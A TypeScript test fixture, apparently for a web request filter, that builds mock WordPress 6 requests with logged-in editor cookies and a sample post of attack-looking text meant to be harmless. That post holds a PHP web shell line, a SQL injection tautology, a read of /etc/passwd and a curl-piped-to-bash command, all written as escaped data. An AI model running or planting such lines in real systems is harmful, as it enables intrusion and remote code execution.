/** How WordPress 6 sends requests: headers and cookies of a user who is logged in, forms, JSON. */
import type { TrialRequest } from '../trial.ts'

export type Shape = { readonly name: string; readonly request: TrialRequest }

const host = 'blog.example'

/** A post with everything that looks like an attack and is none. */
export const prose = [
  '<!-- wp:paragraph {"align":"center","style":{"color":{"text":"#112233"}}} -->',
  '<p class="has-text-align-center">To select items from the catalogue, where 1=1 -- and union members -- drop us a line; <a href="https://example.org/?a=1&amp;b=2" onclick="return true">here</a>.</p>',
  '<!-- /wp:paragraph -->',
  "<!-- wp:code --><pre class=\"wp-block-code\"><code>&lt;?php system($_GET[\"cmd\"]); ?&gt; SELECT * FROM users WHERE id = '1' OR '1'='1'; cat /etc/passwd | grep root; $(curl http://example.org/x.sh | bash)</code></pre><!-- /wp:code -->",
  '<!-- wp:html --><iframe src="https://www.youtube.com/embed/abc" width="560"></iframe><script>document.write("hello")</script><style>@import url(x.css);</style><!-- /wp:html -->',
].join('\n')

export type Sent = {
  readonly method?: string
  readonly uri: string
  readonly type?: string
  readonly body?: string
  readonly headers?: readonly (readonly [string, string])[]
  /** Without the cookies of somebody who is logged in. */
  readonly is_stranger?: boolean
}

export function wordpressRequest({
  method,
  uri,
  type,
  body = '',
  headers = [],
  is_stranger = false,
}: Sent): TrialRequest {
  const bytes = Buffer.from(body, 'utf8').toString('latin1')
  return {
    id: '018f0000-0000-7000-8000-000000000000',
    at_ms: Date.UTC(2026, 0, 1),
    client: '192.0.2.7',
    method: method ?? (body === '' ? 'GET' : 'POST'),
    uri,
    http_version: '1.1',
    headers: [
      ['Host', host],
      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
      ['Accept', 'application/json, */*;q=0.1'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Referer', `https://${host}/wp-admin/post.php?post=123&action=edit`],
      [
        'Cookie',
        is_stranger
          ? 'wordpress_test_cookie=WP%20Cookie%20check'
          : 'wordpress_logged_in_0123456789abcdef=editor%7C1800000000%7Cq1w2e3r4t5%7C0a1b2c3d; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1; wp-settings-time-1=1800000000; wordpress_test_cookie=WP%20Cookie%20check',
      ],
      ...headers,
      ...(bytes === ''
        ? []
        : ([
            ['Content-Type', type ?? 'application/x-www-form-urlencoded; charset=UTF-8'],
            ['Content-Length', String(bytes.length)],
            ['Origin', `https://${host}`],
          ] as const)),
    ],
    body: bytes,
  }
}

export const form = (fields: Readonly<Record<string, string>>) =>
  new URLSearchParams(fields).toString()
export const json = (value: unknown) => ({ type: 'application/json', body: JSON.stringify(value) })
export const override = (method: string) => [['X-HTTP-Method-Override', method]] as const
